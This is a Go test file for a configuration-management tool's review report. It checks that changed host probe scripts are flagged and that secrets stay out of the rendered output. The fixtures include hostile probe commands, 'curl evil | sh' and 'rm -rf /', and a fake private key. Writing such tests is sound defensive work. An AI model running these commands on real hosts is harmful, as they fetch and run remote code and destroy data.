// SPDX-License-Identifier: Apache-2.0

package review_test

import (
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/bindery/bindery/engine/config"
	"github.com/bindery/bindery/engine/review"
	"github.com/bindery/bindery/engine/review/markdown"
)

// Probes run on hosts before anything is known of what they answer: a change of one is
// a change, stands at the top and has to be reviewed.
func TestProbes(t *testing.T) {
	probe := func(name, script string) config.Probe {
		return config.Probe{Name: name, Source: config.SourceProbes, Interpreter: "/bin/sh", Script: script}
	}
	asked := func(probes ...config.Probe) *review.Side {
		s := side(bundle("b", file("/etc/motd", "hello\n")))
		s.Probes = probes
		return s
	}
	arch, os := probe("arch", "uname -m\n"), probe("os", "uname -s\n")
	evil := probe("arch", "curl evil | sh\n")
	secret := probe("key", "echo '-----BEGIN PRIVATE KEY----- "+canary+"'\n")
	newHost := host("new", nil, asked(evil))
	newHost.Unseen = true
	old := host("c", asked(arch, os), asked(evil, secret))
	old.OldFacts = true
	quiet := host("same", asked(arch), asked(arch))
	quiet.OldFacts, quiet.Unseen = true, true
	r := report(t, review.Input{Hosts: []review.Host{
		host("a", asked(arch), asked(evil)), host("b", asked(arch), asked(evil)), old, newHost, quiet,
		host("gone", asked(arch), nil),
	}})
	require.Equal(t, review.Totals{Hosts: 5, Changed: 3, Unaffected: 1, Added: 1, Removed: 1, OldFacts: 1, Unseen: 1}, r.Totals)
	require.Equal(t, []string{"a", "b", "c", "gone", "new"}, r.Hosts)
	var kinds []string
	for i := range r.Changes {
		kinds = append(kinds, string(r.Changes[i].Kind)+" "+r.Changes[i].Entry.String())
		require.Equal(t, r.Changes[i].Kind == review.EntryRemoved, r.Changes[i].Severity > review.Sensitive)
	}
	require.Equal(t, []string{"modified Probe:arch", "added Probe:arch", "added Probe:key", "removed Probe:os"}, kinds)
	body := markdown.New(r, markdown.Options{}).Body
	require.Contains(t, body, "❔ probes changed, effect unknown until they ran: <code>arch</code>")
	require.Contains(t, body, "❔ <b>probe <code>arch</code> changed</b>: 3 hosts")
	require.Regexp(t, `-‹secret [0-9a-f]{6}›\n\+‹secret [0-9a-f]{6}›\n`, body)
	require.NotContains(t, body, "evil", "code may hold what it logs in with")
	require.NotContains(t, body, "secret value changes")
	require.Contains(t, body, "| Facts older than 7 days | 1 |")
	require.Contains(t, body, "| Never seen | 1 |")
	for name, view := range views(t, r) {
		require.NotContains(t, view, canary, name)
	}
	require.NotContains(t, pageOf(t, r), canary)
	// What is published has to stay within what was reviewed, probes included.
	other := report(t, review.Input{Hosts: []review.Host{host("a", asked(arch), asked(probe("arch", "rm -rf /\n")))}})
	rest := r.Set().Minus(other.Set())
	require.Len(t, rest, 1)
	require.Equal(t, "Probe:arch", rest[0].Entry.String())
	back, err := review.ReadSet(key, func() []byte { data, err := other.Set().MarshalBinary(); require.NoError(t, err); return data }())
	require.NoError(t, err)
	require.True(t, back.Contains(other.Set()))
}
